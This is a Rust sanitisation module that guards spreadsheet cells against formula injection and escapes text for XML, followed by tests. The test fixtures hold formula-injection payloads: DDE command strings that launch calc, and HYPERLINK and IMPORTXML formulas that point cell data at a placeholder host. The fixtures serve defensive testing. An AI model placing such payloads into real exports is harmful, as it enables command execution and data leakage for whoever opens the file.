//! Texts made safe for where they go: names come from files that anybody may have written.

use std::borrow::Cow;

/// What makes a program for spreadsheets take a cell for a formula, or part of one; the wide forms
/// are taken for it where they are common.
const STARTS_A_FORMULA: [char; 11] =
    ['=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];

/// What puts a text out of danger, and is put before itself too, so that it can be taken off again.
const GUARD: char = '\'';

/// A text as a cell of a table: never a formula. Numbers need no guard and must not get one.
#[must_use]
pub fn cell(text: &str) -> Cow<'_, str> {
    let starts = |text: &str| text.starts_with(STARTS_A_FORMULA) || text.starts_with(GUARD);
    // Some programs look past blanks and marks that cannot be seen.
    let seen =
        text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{FEFF}');
    if starts(text) || starts(seen) {
        Cow::Owned(format!("{GUARD}{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text from a cell of a table, as it was.
#[must_use]
pub fn uncell(cell: &str) -> &str {
    cell.strip_prefix(GUARD).unwrap_or(cell)
}

/// A text as the value of an attribute in XML. What XML cannot hold becomes U+FFFD: one such
/// character, even escaped, would make the whole file unreadable.
#[must_use]
pub fn xml(text: &str) -> Cow<'_, str> {
    let is_plain = |c: char| !matches!(c, '&' | '<' | '>' | '"' | '\'') && is_in_xml(c) && c >= ' ';
    if text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '&' => safe.push_str("&amp;"),
            '<' => safe.push_str("&lt;"),
            '>' => safe.push_str("&gt;"),
            '"' => safe.push_str("&quot;"),
            '\'' => safe.push_str("&apos;"),
            // As such they would be read as blanks.
            '\t' => safe.push_str("&#9;"),
            '\n' => safe.push_str("&#10;"),
            '\r' => safe.push_str("&#13;"),
            c if is_in_xml(c) => safe.push(c),
            _ => safe.push(char::REPLACEMENT_CHARACTER),
        }
    }
    Cow::Owned(safe)
}

/// The characters of XML 1.0.
fn is_in_xml(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | ' '..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
}

/// Beginnings of names that readers keep for themselves: an attribute of such a name would put
/// itself in the place of the event's activity or time.
pub const RESERVED: [&str; 5] = ["ocel:", "concept:", "time:", "case:", "@@"];

#[cfg(test)]
mod tests {
    use super::*;

    /// Two hundred texts that do harm somewhere, and some that look like it.
    fn payloads() -> Vec<String> {
        let starts = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u{FEFF}=", "\u{FF1D}"];
        let rests = [
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://x\",\"y\")",
            "SUM(A1:A9)*cmd|'/C x'!A0",
            "IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
            "\"quoted\"",
            "a,b",
            "a;b",
            "a\nb",
            "a\r\nb",
            "'",
            "''",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "@SUM(1)",
            "\u{0}",
            "<b>&amp;</b>",
            "é漢字",
            "-2+3",
            "",
            " ",
        ];
        let mixed = starts.iter().flat_map(|start| rests.map(|rest| format!("{start}{rest}")));
        mixed.collect()
    }

    #[test]
    fn two_hundred_payloads_are_no_formulas_and_come_back_as_they_were() {
        let payloads = payloads();
        assert_eq!(payloads.len(), 200);
        let mut file = csv::Writer::from_writer(Vec::new());
        file.write_record(["text", "number"]).unwrap();
        for text in &payloads {
            file.write_record([cell(text).as_ref(), "-1"]).unwrap();
        }
        let bytes = file.into_inner().unwrap();
        let mut read = csv::Reader::from_reader(bytes.as_slice());
        let rows: Vec<_> = read.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), payloads.len());
        for (row, text) in rows.iter().zip(&payloads) {
            assert!(row[0].starts_with(GUARD), "{:?}", &row[0]);
            assert_eq!((uncell(&row[0]), &row[1]), (text.as_str(), "-1"));
        }
    }

    #[test]
    fn harmless_texts_stay_and_guards_can_be_told_from_texts() {
        for text in ["", "Alder Valley", "a=b", "Gov. Code 7282.5(a)(3)", "7-eleven"] {
            assert_eq!(cell(text), text);
        }
        for text in ["'=1", "'a", "''", "=1"] {
            assert_eq!(uncell(&cell(text)), text);
        }
    }

    #[test]
    fn nothing_that_xml_cannot_hold_gets_into_it() {
        assert_eq!(xml("a<b> & \"c\"'"), "a&lt;b&gt; &amp; &quot;c&quot;&apos;");
        assert_eq!(xml("\u{0}\u{1}\u{1F}\u{FFFE}\u{FFFF}"), "\u{FFFD}".repeat(5));
        assert_eq!(xml("\t\r\n\u{85}\u{10FFFF}"), "&#9;&#13;&#10;\u{85}\u{10FFFF}");
    }
}
